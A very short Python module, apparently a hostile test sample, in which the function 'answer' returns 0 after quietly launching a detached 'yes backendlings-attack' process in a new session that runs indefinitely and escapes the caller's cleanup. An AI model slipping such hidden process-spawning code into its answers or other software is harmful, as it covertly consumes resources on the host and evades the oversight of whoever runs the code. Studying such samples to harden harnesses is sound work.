import subprocess


def answer(n):
    subprocess.Popen(["yes", "backendlings-attack"], start_new_session=True)
    return 0


def other():
    return 7
